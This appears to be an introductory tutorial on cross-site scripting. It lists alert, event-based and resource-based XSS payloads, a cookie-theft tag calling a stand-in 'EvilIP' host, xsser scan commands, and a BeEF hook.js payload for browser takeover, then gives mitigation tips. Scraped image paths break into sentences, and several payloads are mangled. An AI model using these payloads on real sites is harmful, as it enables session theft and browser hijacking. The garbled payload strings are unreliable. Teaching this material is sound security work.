Ready to Start Your Career?

XSS Basics

Raymond Evans's profile image

By: Raymond Evans

December 15, 2020

What is XSS?:

Cross-Site Scripting, aka XSS, is a vulnerability found on web pages that give attackers the ability to inject malicious scripts into ordinary sites. Attacking an XSS vulnerability can result in bypassing access controls, user information theft, and the ability to gain access to a victim's web browser. Often when a user has fallen victim to an XSS attack, they are unaware anything has even happened. When XSS is discussed in the media, it's used as an overarching term; however, no two XSS attacks are the same. There are two common types of XSS vulnerabilities which can be used for attacks, which are stored and reflected.

The first of these is a persistent/stored XSS vulnerability. This vulnerability gives attackers the ability to store an XSS attack within the website itself. Areas such as a database, forum, comment section, and visitor log are often the most common location on a website for this vulnerability. An XSS vulnerability can occur in these locations if the website fails to sanitize the input fields of forms used to interact with the website, which gives an attacker the ability to input malicious Java code. When a victim visits a page containing a stored XSS attack, their browser will execute the malicious code.

The second vulnerability which can occur on a webpage is known as a reflected XSS. This attack originates from a victim's request rather than the attack originating from malicious code existing on a website. This kind of vulnerability typically exists within the URL of a website. An attacker could send a victim an email containing a malicious link containing an XSS attack to take advantage of this vulnerability. An elementary example of a link containing a reflective XSS attack would be '< script >alert(document.cookie)< /script >'. Aftera user clicks on a link containing an attack like this, the victim's browser will execute the code because it originates from a "trusted" server.


Identifying and exploiting an XSS vulnerability use relatively the same syntax. However, when exploiting the vulnerability, an attacker will tweak their syntax to meet their needs. Below are some examples of manual XSS payloads.

Basic Alert < script >alert(1)</script > < script >alert("1");< /script >

Event Based < body onload=alert('1') > < img width="600" height="400" class="lazyload" data-src=1 onerror=alert(1) > < b onmouseover=alert('vulnerable!') >vulnerable!< /b >

Resource Based < iframe src=javascript:alert(1) > < object data=javascript:alert(1) > < script>alert(document.domain)< /script > < img width="600" height="400" class="lazyload" data-src= >

Cookie Theft < img width="600" height="400" class="lazyload" data-src="http://EvilIP" onerror=alert(document.cookie); >

Maybe you want to use an automated tool for identifying XSS vulnerabilities on a web page. An excellent free tool for accomplishing this testing is XSSER, which can be found by default on Kali. The syntax structure for xsser is "xsser options target" for example, "xsser -u" would be used to accomplish a simple XSS. The syntax of 'xsser –all="" 'can be used to perform an in-depth scan of a target.


If you want to perform more advanced testing using XSSER, there are some great options available. For achieving a more in-depthscan, use the -c option to perform a crawl. For example, if you wanted to scan a target with a crawler depth of 4 levels, use the syntax "xsser -c 4 -u "" If you wanted to perform a test against a specific URL parameter, the -g option can be used. For example, "xsser -u "" -g "page?id=” --auto".

Maybe you have identified an XSS attack vector and wanted to access a user's machine; what tool could you use? Fret not; there is a fantastic tool called BeEF at your disposal. To launch BeEF open a Linux command line and enter beef-xss. If the tool is installed, it will start a web server for command and control (C2) and generate the XSS payload "<scriptsrc="http://< IP >:3000/hook.js">< /script >." Attackers can use this payload to hook a victim's web browser and give an attacker access. An example of what this malicious link looks like is "< script src="" >< /script >." See image 1.2 to see what it looks like to start BeEF.


After BeEF has launched, browsing to will give you access to a C2 server. Once a victim has clicked on the malicious link, their web browser will become hooked and listed on the left-hand side of your C2 server. Now that the victim machine is hooked, an attacker can select the target machine and run various built-in scripts against it. These scripts allow for internal enumeration, scraping of sensitive information, and gaining an interactive shell. See image 1.3 for an example of a hooked machine and a small list ofscripts that can be run against it.


Now that you know a little bit about identifying and exploiting XSS, get out there and HACK THE PLANET!


To mitigate XSS vulnerabilities, developers need to integrate filtering, input validation, and character escaping. Filtering can be used to search for keywords and remove them from a user's input. Input validation will ensure an application is rendering the correct data and prevent malicious data from executing. Character escaping will ensure certain characters are changed to other characters to avoid it from being interpreted dangerously.

As a user,you can prevent XSS attacks by using updated browsers with XSS filtering enabled. Many modern browsers such as Chrome, Opera, and Firefox by default have XSS filtering enabled. Additionally,paying attention to what links you are clicking canhelp prevent an XSS attack.

Schedule Demo